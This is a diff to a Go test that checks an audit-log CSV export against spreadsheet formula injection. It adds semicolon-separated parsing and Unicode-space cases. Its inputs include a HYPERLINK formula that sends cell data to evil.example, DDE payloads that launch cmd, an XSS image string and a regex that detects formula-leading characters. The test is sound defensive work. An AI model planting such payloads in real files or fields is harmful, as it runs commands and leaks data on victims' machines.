@@ -91,7 +91,8 @@ func TestCase126AuditorsSeeWhatPeopleWrote(t *testing.T) {
 	f := newFixture(t)
 	const markup = `<img src=x onerror=alert(1)>`
 	for _, reason := range []string{`=HYPERLINK("https://evil.example/?"&A1,"details of the incident")`, `+1+cmd|' /C calc'!A0 for the incident`, `-2+3+cmd for the incident`,
-		`@SUM(1+1)*cmd for the incident`, "\t=1+1 for the incident of today", "\r=1+1 for the incident of today", ` =1+1 for the incident of today`, `＝1+1 for the incident of today`, markup + " for the incident"} {
+		`@SUM(1+1)*cmd for the incident`, "\t=1+1 for the incident of today", "\r=1+1 for the incident of today", ` =1+1 for the incident of today`, `＝1+1 for the incident of today`,
+		`look at the queue;=cmd|' /C calc'!A0;done`, `look at the queue; "=1+1";done`, "\u00a0=1+1 for the incident", markup + " for the incident"} {
 		require.NoError(t, f.ledger.AppendEvent(context.Background(), access.Event{At: time.Now(), Kind: access.EventActRefused, Actor: reason, Message: reason, Detail: map[string]string{"act": reason}}))
 		b, err := json.Marshal(map[string]string{"contract": "ssh-demo", "duration": "30m", "reason": reason})
 		require.NoError(t, err)
@@ -108,19 +109,18 @@ func TestCase126AuditorsSeeWhatPeopleWrote(t *testing.T) {
 		w := f.call(f.token("carol"), "GET", path, "", "")
 		require.Equal(t, http.StatusOK, w.Code)
 		require.Contains(t, w.Header().Get("Content-Disposition"), "attachment")
-		rows, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
-		require.NoError(t, err)
-		require.Greater(t, len(rows), 9)
-		evil := 0
-		for _, row := range rows {
-			for _, cell := range row {
-				require.NotRegexp(t, `^\s*[=+\-@\t\r\n＝＋－＠]`, cell)
-				if strings.HasPrefix(cell, "'") {
-					evil++
+		for _, separator := range ",;" { // the second in countries where the first is in numbers
+			r := csv.NewReader(strings.NewReader(w.Body.String()))
+			r.Comma, r.FieldsPerRecord, r.LazyQuotes = separator, -1, true
+			rows, err := r.ReadAll()
+			require.NoError(t, err)
+			require.Greater(t, len(rows), 9)
+			for _, row := range rows {
+				for _, cell := range row {
+					require.NotRegexp(t, `^[\s\p{Z}"]*[=+\-@＝＋－＠]|^[\t\r\n]`, cell)
 				}
 			}
 		}
-		require.GreaterOrEqual(t, evil, 6)
 		w = f.call(f.token("carol"), "GET", path+"?format=json", "", "")
 		require.Contains(t, w.Body.String(), `"=HYPERLINK(`, "JSON has the text itself")
 		require.Equal(t, http.StatusBadRequest, f.call(f.token("carol"), "GET", path+"?format=xlsx", "", "").Code)
